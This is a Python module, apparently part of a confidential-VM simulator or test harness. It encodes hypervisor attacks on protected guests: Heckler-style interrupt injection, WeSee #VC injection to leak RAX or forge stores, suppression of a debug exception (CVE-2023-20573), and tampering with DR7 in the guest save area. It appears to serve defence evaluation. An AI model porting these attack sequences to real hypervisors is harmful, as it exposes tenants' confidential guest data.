"""The hypervisor injects events, swallows them, or alters what the guest debugs with (rows 24 to 26).

It tries the control block first. Where VMRUN refuses that it takes the event back, lets the guest run, and rings its
#HV doorbell, if it has one.
"""

from __future__ import annotations

from collections.abc import Callable

from node.event_injection import Event, EventType, ExceptionVector, exception
from node.hv_doorbell import NO_FURTHER_SIGNAL
from node.operations import HostRead, HostWrite, NestedUnmap, VmcbStore, VmKick
from node.vmexit import ExitCode
from node.vmsa import VMSA_FIELDS
from workloads.attacks.hypervisor_books import TellDr7
from workloads.attacks.nested_remap import point, smash
from workloads.attacks.service import ASKED, BEFORE_STEPS, BREAKPOINTS, LOADED, MASKED, SYSTEM_CALL, TICK
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, Target
from workloads.attacks.vault import PAGE_BYTES


def system_call(target: Target) -> Attack:
    """Row 24a (Heckler): int 0x80 just after a check has put its answer into RAX."""
    yield from _inject_at(target, ASKED, Event(SYSTEM_CALL, EventType.INTERRUPT))


def signal(vector: int) -> Callable[[Target], Attack]:
    """Row 24b (Heckler): a vector that the kernel makes a signal of."""

    def attack(target: Target) -> Attack:
        yield from _inject_at(target, ASKED, Event(vector, EventType.INTERRUPT))

    return attack


def masked_tick(target: Target) -> Attack:
    """Row 24c: a timer's interrupt while the guest masks interrupts."""
    yield from _inject_at(target, MASKED, Event(TICK, EventType.INTERRUPT))


def take_rax(target: Target) -> Attack:
    """Row 25a (WeSee): #VC with the code of VMMCALL, whose handler shows RAX; the GHCB tells it."""
    yield from _inject_at(target, LOADED, exception(ExceptionVector.VC, ExitCode.VMMCALL))
    yield (HostRead(target.victim.outbox.spa, PAGE_BYTES),)


def read_by_forged_stores(target: Target) -> Attack:
    """Row 25b (WeSee): #VC with the code of a nested fault; the handler stores to a device what it should copy."""
    for rest in (LOADED, 0):
        yield from _inject_at(target, rest, exception(ExceptionVector.VC, ExitCode.NESTED_PAGE_FAULT))


def take_a_store(target: Target) -> Attack:
    """WeSee, at a kernel without gates: #VC with the code of a nested fault in the place of the victim's next store."""
    yield from _inject_at(target, 1, exception(ExceptionVector.VC, ExitCode.NESTED_PAGE_FAULT))


def swallow_debug_exception(target: Target) -> Attack:
    """Row 26b (CVE-2023-20573): an exit while #DB is delivered, after which nobody injects it again."""
    victim = target.victim
    for _ in range(BEFORE_STEPS):
        yield LET_IT_RUN
    yield WRITE_BACK
    yield smash(victim.stack)
    yield (NestedUnmap(victim.vm, victim.stack.gpa, PAGE_BYTES),)
    yield LET_IT_RUN
    yield (point(victim, victim.stack, victim.stack.spa),)
    yield (VmKick(victim.vm, 0),)
    yield LET_IT_RUN


def alter_breakpoints(target: Target) -> Attack:
    """Row 26a: tell the guest another DR7, and change it in the save area where that is to be read."""
    victim = target.victim
    yield (TellDr7(0x400),)
    yield WRITE_BACK
    at = victim.save_area + VMSA_FIELDS["DR7"].offset
    (found,) = yield (HostRead(at, 8, victim.c_bit),)
    if found == BREAKPOINTS.to_bytes(8, "little"):
        yield (HostWrite(at, (0x400).to_bytes(8, "little"), victim.c_bit),)
    for _ in range(BEFORE_STEPS + 1):
        yield LET_IT_RUN


def _inject_at(target: Target, rests: int, event: Event) -> Attack:
    victim = target.victim
    for _ in range(rests):
        yield LET_IT_RUN
    _, code = yield (VmcbStore(victim.vm, 0, "EVENTINJ", event.field), VmKick(victim.vm, 0))
    if code != 0:
        yield (VmcbStore(victim.vm, 0, "EVENTINJ", 0), VmKick(victim.vm, 0))
        if victim.doorbell is not None and event.kind == EventType.INTERRUPT:
            rung = exception(ExceptionVector.HV)
            yield (
                HostWrite(victim.doorbell.spa, bytes((event.vector, NO_FURTHER_SIGNAL))),
                VmcbStore(victim.vm, 0, "EVENTINJ", rung.field),
                VmKick(victim.vm, 0),
            )
    yield LET_IT_RUN
